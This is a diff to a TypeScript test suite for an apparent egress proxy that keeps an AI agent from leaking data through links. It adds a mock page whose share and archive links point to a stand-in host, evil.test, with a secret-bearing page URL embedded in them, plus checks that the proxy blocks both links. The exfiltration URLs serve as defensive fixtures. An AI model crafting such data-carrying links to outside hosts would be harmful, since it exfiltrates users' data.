@@ -15,7 +15,7 @@
 import http from 'node:http';
 import fc from 'fast-check';
 import t from 'tap';
-import { LinkScanner, echoedBy, normalizeLink, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
+import { LinkScanner, echoedBy, normalizeLink, pageSkeleton, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
 import { tempDir, type Teardown } from '../temp-dir.ts';
 import { policyCopy, startSessionAirlock, testConfig, viaCurl, viaPython, type Web } from '../sessions/helpers.ts';
 
@@ -77,11 +77,12 @@ function answerWith(echo: string, format: LinkFormat, served: string): string {
 }
 
 function recorded(request: Parameters<typeof requestSkeletons>[0], format: LinkFormat, body: string): string[] {
-  const scanner = new LinkScanner(format, 'https://search.example/search?q=news');
+  const page = `https://search.example${request.pathAndQuery}`;
+  const scanner = new LinkScanner(format, page);
   scanner.write(body);
   const sent = requestSkeletons(request);
   if (!sent) return [];
-  return scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u)));
+  return scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)));
 }
 
 t.test('a URL the request carried is not recorded when the answer echoes it, however transformed (property)', async (t) => {
@@ -174,7 +175,12 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
       const host = (req.headers.host ?? '').split(':')[0]!;
       all.push({ host, url: req.url ?? '', headers: req.headers });
       const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
-      if (host === 'search.test') {
+      if (host === 'search.test' && req.url?.startsWith('/page/')) {
+        // A page with share buttons: links to other hosts that carry the page's own URL.
+        const self = encodeURIComponent(`http://search.test:${port}${req.url}`);
+        res.setHeader('content-type', 'text/html');
+        res.end(`<p>An article.</p><a href="http://evil.test:${port}/share?u=${self}">share</a> <a href="http://evil.test:${port}/archive/http://search.test:${port}${req.url}">archive</a> <a href="http://blog.test:${port}/post?id=4">more</a>`);
+      } else if (host === 'search.test') {
         res.setHeader('content-type', 'application/json');
         res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase() }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
       } else {
@@ -216,6 +222,14 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
     t.equal((await viaCurl(proxy, 'GET', normalized)).status, 403, `the echoed ${written} is not followable as ${normalized}`);
   }
   t.notOk(web.all.some((h) => h.host !== 'search.test' && /secret1[01]/.test(h.url)), 'no echoed spelling reached its host');
+
+  // A page whose links to another host carry the page's own URL (share and archive buttons): the
+  // agent chose that URL, so those links carry its data.
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/page/secret12`)).status, 200);
+  for (const u of [`http://evil.test:${web.port}/share?u=${encodeURIComponent(`${web.origin('search.test')}/page/secret12`)}`, `http://evil.test:${web.port}/archive/${web.origin('search.test')}/page/secret12`]) {
+    t.equal((await viaCurl(proxy, 'GET', u)).status, 403, `${u} embeds the page's URL: not followable`);
+  }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
 
   // The result the source served is followable, with curl and Python requests, but bare.
   const link = `http://blog.test:${web.port}/post?id=4`;
